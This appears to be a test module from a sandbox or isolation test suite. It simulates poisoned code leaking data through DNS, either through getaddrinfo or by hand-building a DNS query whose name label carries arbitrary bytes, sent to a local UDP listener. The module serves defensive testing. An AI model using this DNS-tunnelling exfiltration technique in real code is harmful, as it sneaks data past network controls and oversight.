"""Poisoned code asks a name server: a name can carry a picture, one label at a time."""

from __future__ import annotations

import socket
import struct

from attacks.attempt import Attempt, Try
from attacks.scenes import udp_listener


class GetAddrInfo(Attempt):
    def act(self, data: bytes) -> bool:
        return bool(data and socket.getaddrinfo("localhost", 80))


class Query(Attempt):
    """A question to a name server, put together by hand: no resolver library is needed."""

    def act(self, data: bytes) -> bool:
        name = bytes([len(data)]) + data + b"\x07invalid\0"
        question = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(question, ("127.0.0.1", self.given["port"]))
        return True


TRIES = (
    Try("getaddrinfo", GetAddrInfo),
    Try("a query by hand", Query, calls=("socket", "sendto"), scene=udp_listener),
    Try("a query by hand, fork server", Query, "server", scene=udp_listener),
)
